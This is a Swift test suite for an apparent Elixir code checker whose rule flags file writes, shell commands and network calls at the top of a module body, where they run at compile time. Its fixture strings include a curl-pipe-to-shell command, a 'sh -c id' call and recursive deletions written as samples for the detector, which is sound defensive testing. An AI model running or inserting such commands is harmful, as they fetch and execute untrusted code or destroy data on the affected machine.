import Checks
import Foundation
import Testing

private let sideEffect = "Misc.ModuleBodySideEffect"

private func effects(_ code: String, kind: SourceKind = .code) async throws -> [Finding] {
    (try await Fixtures.pool.report(.all, code, kind: kind).findings ?? []).filter { $0.check == sideEffect }
}

@Suite("Built-in rule: side effects in a module body run at compile time")
struct ModuleBodySideEffectTests {
    @Test("file writes, commands, processes and network calls at the top of a module body are reported with line, column and fields")
    func topLevelEffects() async throws {
        let code = """
        defmodule Evil do
          @moduledoc "Runs things while it compiles."
          File.write!("/tmp/pwned", "x")
          File.rm_rf("/tmp/cache")
          System.cmd("sh", ["-c", "id"])
          System.shell("echo hi")
          :os.cmd('curl example.com | sh')
          Port.open({:spawn, "ls"}, [])
          spawn(fn -> :ok end)
          {:ok, _} = :gen_tcp.connect('example.com', 80, [])
          :httpc.request('http://example.com')
          :ssl.connect('example.com', 443, [])
          HTTPoison.get!("http://example.com")
          Req.get!("http://example.com")
          Finch.request(Finch.build(:get, "http://example.com"), MyFinch)
          "/tmp/x" |> File.write!("y")

          def ok, do: :ok
        end
        """
        let found = try await effects(code)
        let expected: [(Int, Int)] = [(3, 3), (4, 3), (5, 3), (6, 3), (7, 3), (8, 3), (9, 3), (10, 14), (11, 3), (12, 3), (13, 3), (14, 3), (15, 3), (16, 15)]
        #expect(found.map(\.line) == expected.map(\.0))
        #expect(found.map(\.column) == expected.map(\.1), "the column is where the call starts")
        for f in found {
            #expect(f.source == .sobelow && f.builtin && f.category == "security")
            #expect(f.cwe == "CWE-829" && f.ruleID == nil && f.confidence == "high", "\(f)")
            #expect(f.message.contains("runs when the module compiles"))
        }
        #expect(found.first?.message.contains("`File.write!`") == true)
        #expect(found.first { $0.line == 7 }?.message.contains("`:os.cmd`") == true)
    }

    @Test("the same calls inside functions, macros, tests and Plug routes are not reported")
    func functionBodies() async throws {
        let code = """
        defmodule Fine do
          @moduledoc "Side effects only when called."
          def run(path) do
            File.write!(path, "x")
            File.rm_rf(path)
            System.cmd("ls", [])
            :os.cmd('ls')
            spawn(fn -> :ok end)
            HTTPoison.get!("http://example.com")
          end

          defp fetch, do: Req.get!("http://example.com")
          defmacro clean(p), do: quote(do: File.rm_rf!(unquote(p)))
          @spec name() :: Finch.name()
          def name, do: MyFinch
        end

        defmodule FineTest do
          use ExUnit.Case
          setup do
            File.mkdir_p!("tmp")
          end

          describe "writes" do
            test "a file" do
              File.write!("tmp/x", "y")
            end
          end
        end

        defmodule Fine.Router do
          @moduledoc false
          use Plug.Router
          get "/file" do
            send_resp(conn, 200, File.read!("priv/file"))
          end
        end

        File.write!("script.log", "scripts run when they run")
        """
        #expect(try await effects(code).isEmpty)
    }

    @Test("reads: Elixir's @external_resource idiom and reads in attributes are not reported; other reads are low; fn and unquote are covered")
    func readsAndAttributes() async throws {
        let code = """
        defmodule Data do
          @moduledoc "Compile-time data."
          @external_resource "priv/data.txt"
          @data File.read!("priv/data.txt")
          for line <- File.stream!("priv/data.txt"), do: def(unquote(String.to_atom(line))(), do: 1)
          def data, do: @data
        end

        defmodule Loose do
          @moduledoc "Reads without declaring the file."
          @config File.read!("priv/config.json")
          @sha System.cmd("git", ["rev-parse", "HEAD"])
          @words File.read!("priv/words.txt") |> String.split()
          Enum.each(["tmp/a"], fn p -> File.rm!(p) end)
          def word(n), do: unquote(File.read!("priv/word.txt"))
          def host, do: unquote(System.cmd("hostname", []))
        end
        """
        let found = try await effects(code)
        let byLine = Dictionary(found.map { ($0.line, $0) }, uniquingKeysWith: { a, _ in a })
        #expect(Set(byLine.keys) == [12, 14, 15, 16], "\(found.map { "\($0.line): \($0.message)" })")
        #expect(byLine[12]?.confidence == "high" && byLine[12]?.message.contains("@sha") == true, "a command in an attribute is still a command")
        #expect(byLine[14]?.confidence == "medium", "a fn may run later")
        #expect(byLine[15]?.confidence == "low", "an unquote fragment reads at compile time, with no @external_resource")
        #expect(byLine[16]?.confidence == "high")
    }
}

@Suite("Built-in rules stay isolated on odd code")
struct RuleIsolationTests {
    static let drillProgram = """
    defmodule Drill do
      File.rm_rf("/tmp/cache")
      # TODO: tidy
      def a(x) do
        IO.inspect(x)
        String.to_atom(x)
      end

      def b(x), do: raw(dbg(x))
      def c, do: 1000000
      def d do
        myVar = 1
        myVar
      end
    end
    """
    static let others: Set<String> = ["Credo.Check.Readability.ModuleDoc", "Credo.Check.Design.TagTODO", "DOS.StringToAtom", "XSS.Raw", "Credo.Check.Warning.Dbg",
                                      "Credo.Check.Readability.LargeNumbers", "Credo.Check.Readability.VariableNames"]

    /// A copy of the checker in which two rules raise: one that runs on each remote call in the
    /// AST walk (beside a dozen others) and one that walks the whole tree on its own.
    static func drilledChecker() throws -> String {
        let resources = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("Sources/Checks/Resources")
        // The checker and every script it requires, copied; the drills go into the files holding their anchors.
        var scripts: [String: String] = [:]
        for name in try FileManager.default.contentsOfDirectory(atPath: resources.path) where name.hasSuffix(".exs") {
            scripts[name] = try String(contentsOf: resources.appendingPathComponent(name), encoding: .utf8)
        }
        let drills = [
            ("credo_rules.exs", "{\"Warning.IoInspect\", fn ->", "{\"Warning.IoInspect\", fn -> raise \"drill in IoInspect\"\n"),
            ("checker.exs", "defp module_body(ast, ctx), do: outside(ast, ctx)", "defp module_body(_ast, _ctx), do: raise(ArgumentError, \"drill in the module body\")"),
        ]
        for (file, anchor, broken) in drills {
            let script = try #require(scripts[file])
            try #require(script.components(separatedBy: anchor).count == 2, "the drill's anchor moved: update it (\(anchor))")
            scripts[file] = script.replacingOccurrences(of: anchor, with: broken)
        }
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("ec-drill-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        for (name, text) in scripts { try text.write(to: dir.appendingPathComponent(name), atomically: true, encoding: .utf8) }
        return dir.appendingPathComponent("checker.exs").path
    }

    @Test("a rule that raises becomes one RuleFailed finding naming it; every other rule's findings still come back")
    func oneRuleFails() async throws {
        let real = try await Fixtures.pool.report(.all, Self.drillProgram).findings ?? []
        #expect(!real.contains { $0.check == "ElixirCoder.RuleFailed" })
        #expect(Set(real.map(\.check)).isSuperset(of: Self.others.union(["Credo.Check.Warning.IoInspect", sideEffect])), "\(real.map(\.check))")

        let script = try Self.drilledChecker()
        defer { try? FileManager.default.removeItem(atPath: (script as NSString).deletingLastPathComponent) }
        let drilled = try CheckerPool(size: 1, scriptPath: script)
        let report = try await drilled.report(.all, Self.drillProgram)
        #expect(report.syntax.status == .ok)
        let findings = report.findings ?? []
        let failed = findings.filter { $0.check == "ElixirCoder.RuleFailed" }
        #expect(failed.count == 2, "one finding per failing rule, not one per node: \(failed.map(\.message))")
        #expect(failed.contains { $0.message.contains("Credo.Check.Warning.IoInspect") && $0.message.contains("drill in IoInspect") })
        #expect(failed.contains { $0.message.contains(sideEffect) && $0.message.contains("drill in the module body") })
        #expect(failed.allSatisfy { $0.source == .builtin && $0.builtin })
        let checks = Set(findings.map(\.check))
        #expect(checks.isSuperset(of: Self.others), "lost: \(Self.others.subtracting(checks).sorted())")
        #expect(!checks.contains("Credo.Check.Warning.IoInspect") && !checks.contains(sideEffect))
        #expect(drilled.processStarts == 1)
    }

    /// Odd but parseable programs: unquote fragments, variables as module names, unquoted def
    /// names, huge integers, AST-like tuples, sigils, a 3000-element list, `__MODULE__.Sub`.
    static let oddPrograms: [String] = {
        let big = (0..<3000).map(String.init).joined(separator: ", ")
        return [
            "unquote(head)\nunquote_splicing(rest)\ndefmodule Frag do\n  unquote(body)\n  unquote_splicing(defs)\n  def f(x), do: unquote(x)\nend\n",
            "defmodule x do\nend\n",
            "defmodule x do\n  def f(y), do: IO.inspect(y)\nend\ndefmodule unquote(name) do\n  File.write!(\"a\", \"b\")\nend\n",
            "defmodule Names do\n  def unquote(name)(a), do: a\n  defp unquote(:\"n#{1}\")(b) when unquote(g), do: b\n  def unquote(n)(), do: unquote(File.read!(\"x\"))\nend\n",
            "defmodule Big do\n  @moduledoc false\n  @n \(String(repeating: "9", count: 400))\n  def f, do: \(String(repeating: "1", count: 300)) + 0x\(String(repeating: "F", count: 200))\nend\n",
            "defmodule Tuples do\n  {:ok, {:error, {1, 2, 3}}}\n  {:test, [line: 1], nil}\n  {{:., [], [File, :rm_rf]}, [], [\"/\"]}\n  def f({x, _, y}), do: {x, [], y}\n  test {\"x\", [], []} do\n    assert {{:., [], [1]}, [], []}\n  end\nend\n",
            "defmodule Sigils do\n  @moduledoc ~S\"doc\"\n  @re ~r/a#{b}c/iu\n  def f, do: ~w(a b c)a ++ ~c\"x\" ++ [~D[2020-01-01], ~U[2020-01-01 00:00:00Z]]\n  def g(x), do: ~s(#{x} #{File.read!(x)})\n  def h, do: ~x\"unknown sigil\"\nend\n",
            "defmodule BigList do\n  @moduledoc false\n  @big [\(big)]\n  def f, do: [\(big)]\nend\n",
            "defmodule __MODULE__.Sub do\n  alias __MODULE__.Other\n  def f(x), do: __MODULE__.Other.g(x) |> IO.inspect()\n  def g(m), do: m.Sub.h() ++ unquote(m).h() ++ @mod.x()\nend\n",
            "dbg\ndefmodule\ndef\ndefp x\ndef f, do: (def g, do: 1)\ndefmodule A, B\ndefmodule do\nend\n",
            "x |> (&IO.inspect/1).() |> Enum.map(fn -> 1 end) |> Enum.join()\n:\"a#{b}\"\n:erlang.binary_to_atom(1, 2, 3)\nraw()\nhtml()\nsend_resp(1)\nif\nunless x, 1\n{a, b} = 1\nx.()\n\"s\".f()\n",
            "import Config\nconfig :app, [{\"k\", 1}, password: 3]\nconfig(:app)\nconfig \"x\"\nconfig :app, secret: \"#{x}\", api_key: 'c'\n",
        ]
    }()

    /// Each program as it is, inside a module, inside a function, twice over, cut in half, and quoted.
    static func mutations(_ p: String) -> [String] {
        let indented = p.split(separator: "\n", omittingEmptySubsequences: false).map { "  " + $0 }.joined(separator: "\n")
        return [p, "defmodule Odd do\n\(indented)\nend\n", "defmodule Odd do\n  def f(a) do\n\(indented)\n  end\nend\n", p + "\n" + p,
                String(p.prefix(p.count / 2)), "quote do\n\(p)\nend\n"]
    }

    @Test("property: every odd program and its mutations gets a report, no rule fails, and the checker never restarts")
    func oddProgramsAlwaysReport() async throws {
        let pool = try CheckerPool(size: 1)
        for (i, program) in Self.oddPrograms.enumerated() {
            for (j, code) in Self.mutations(program).enumerated() {
                for kind in j == 0 ? SourceKind.allCases : [.code] {
                    let r = try await pool.report(.all, code, kind: kind)
                    if j == 0 { #expect(r.syntax.status == .ok, "odd program \(i) should parse: \(r.syntax)") }
                    guard r.syntax.status == .ok else { continue }
                    let findings = try #require(r.findings, "program \(i), mutation \(j): no findings list")
                    #expect(!findings.contains { $0.check == "ElixirCoder.RuleFailed" }, "program \(i), mutation \(j): \(findings.filter { $0.check == "ElixirCoder.RuleFailed" }.map(\.message))")
                    #expect(r.facts != nil, "program \(i), mutation \(j): facts failed")
                }
            }
        }
        #expect(pool.processStarts == 1, "the checker restarted")
    }

    @Test("`__MODULE__.Sub` and `mod.Sub` no longer hide every other finding, or the module from the facts")
    func dynamicAliases() async throws {
        let code = "defmodule Outer do\n  @moduledoc false\n  alias __MODULE__.Inner\n  def f(x), do: __MODULE__.Inner.g(x) |> IO.inspect()\n  def g(m), do: m.Sub.h()\nend\n"
        let r = try await Fixtures.pool.report(.all, code)
        let checks = (r.findings ?? []).map(\.check)
        #expect(checks == ["Credo.Check.Warning.IoInspect"], "like Credo, no AliasUsage for __MODULE__.Inner: \(checks)")
        #expect(r.facts?.modules == ["Outer"] && r.facts?.aliases == ["__MODULE__.Inner"])
    }
}
